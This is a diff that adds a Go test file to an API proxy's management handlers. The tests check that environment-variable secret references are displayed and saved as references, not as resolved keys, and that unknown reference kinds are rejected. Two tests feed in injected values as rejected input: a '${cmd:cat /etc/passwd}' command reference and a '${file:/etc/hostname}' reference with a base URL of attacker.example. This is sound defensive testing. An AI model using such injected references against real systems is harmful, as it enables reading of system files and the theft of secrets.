@@ -0,0 +1,111 @@
+package management
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/gin-gonic/gin"
+	"github.com/router-for-me/CLIProxyAPI/v7/internal/config"
+)
+
+func newSecretRefTestHandler(t *testing.T) (*Handler, *config.Config) {
+	t.Helper()
+	t.Setenv("CLIPROXY_TEST_CLAUDE_KEY", "sk-ant-from-env")
+	cfg := &config.Config{
+		ClaudeKey: []config.ClaudeKey{{APIKey: "${env:CLIPROXY_TEST_CLAUDE_KEY}"}},
+	}
+	if errResolve := cfg.ResolveSecretRefs(); errResolve != nil {
+		t.Fatalf("ResolveSecretRefs() error = %v", errResolve)
+	}
+	return &Handler{cfg: cfg, configFilePath: writeTestConfigFile(t)}, cfg
+}
+
+func TestGetClaudeKeysShowsSecretReference(t *testing.T) {
+	h, _ := newSecretRefTestHandler(t)
+
+	rec := httptest.NewRecorder()
+	ctx, _ := gin.CreateTestContext(rec)
+	ctx.Request = httptest.NewRequest(http.MethodGet, "/v0/management/claude-api-key", nil)
+	h.GetClaudeKeys(ctx)
+
+	body := rec.Body.String()
+	if strings.Contains(body, "sk-ant-from-env") || !strings.Contains(body, "${env:CLIPROXY_TEST_CLAUDE_KEY}") {
+		t.Fatalf("body = %s, want the reference instead of the secret", body)
+	}
+}
+
+func TestPutClaudeKeysKeepsSecretReference(t *testing.T) {
+	h, cfg := newSecretRefTestHandler(t)
+
+	rec := httptest.NewRecorder()
+	ctx, _ := gin.CreateTestContext(rec)
+	ctx.Request = httptest.NewRequest(http.MethodPut, "/v0/management/claude-api-key",
+		strings.NewReader(`[{"api-key":"${env:CLIPROXY_TEST_CLAUDE_KEY}","prefix":"team"}]`))
+	ctx.Request.Header.Set("Content-Type", "application/json")
+	h.PutClaudeKeys(ctx)
+
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want 200; body=%s", rec.Code, rec.Body.String())
+	}
+	if got := cfg.ClaudeKey[0].APIKey; got != "sk-ant-from-env" {
+		t.Fatalf("APIKey = %q, want the resolved secret in memory", got)
+	}
+	saved, _ := os.ReadFile(h.configFilePath)
+	if strings.Contains(string(saved), "sk-ant-from-env") || !strings.Contains(string(saved), "${env:CLIPROXY_TEST_CLAUDE_KEY}") {
+		t.Fatalf("saved config:\n%s", saved)
+	}
+}
+
+func TestPutAPIKeysRejectsUnknownSecretReference(t *testing.T) {
+	h, _ := newSecretRefTestHandler(t)
+
+	rec := httptest.NewRecorder()
+	ctx, _ := gin.CreateTestContext(rec)
+	ctx.Request = httptest.NewRequest(http.MethodPut, "/v0/management/api-keys",
+		strings.NewReader(`["${cmd:cat /etc/passwd}"]`))
+	ctx.Request.Header.Set("Content-Type", "application/json")
+	h.PutAPIKeys(ctx)
+
+	if rec.Code != http.StatusBadRequest {
+		t.Fatalf("status = %d, want 400; body=%s", rec.Code, rec.Body.String())
+	}
+}
+
+func TestPutConfigYAMLRejectsUnknownSecretReference(t *testing.T) {
+	h, _ := newSecretRefTestHandler(t)
+	before, _ := os.ReadFile(h.configFilePath)
+
+	rec := httptest.NewRecorder()
+	ctx, _ := gin.CreateTestContext(rec)
+	ctx.Request = httptest.NewRequest(http.MethodPut, "/v0/management/config.yaml",
+		strings.NewReader("gemini-api-key:\n  - api-key: \"${file:/etc/hostname}\"\n    base-url: https://attacker.example\n"))
+	h.PutConfigYAML(ctx)
+
+	if rec.Code != http.StatusBadRequest {
+		t.Fatalf("status = %d, want 400; body=%s", rec.Code, rec.Body.String())
+	}
+	after, _ := os.ReadFile(h.configFilePath)
+	if string(after) != string(before) {
+		t.Fatalf("config file rewritten:\n%s", after)
+	}
+}
+
+func TestPutConfigYAMLKeepsKnownSecretReference(t *testing.T) {
+	h, _ := newSecretRefTestHandler(t)
+
+	rec := httptest.NewRecorder()
+	ctx, _ := gin.CreateTestContext(rec)
+	ctx.Request = httptest.NewRequest(http.MethodPut, "/v0/management/config.yaml",
+		strings.NewReader("claude-api-key:\n  - api-key: \"${env:CLIPROXY_TEST_CLAUDE_KEY}\"\n"))
+	h.PutConfigYAML(ctx)
+
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want 200; body=%s", rec.Code, rec.Body.String())
+	}
+	if got := h.cfg.ClaudeKey[0].APIKey; got != "sk-ant-from-env" {
+		t.Fatalf("APIKey = %q, want the resolved secret", got)
+	}
+}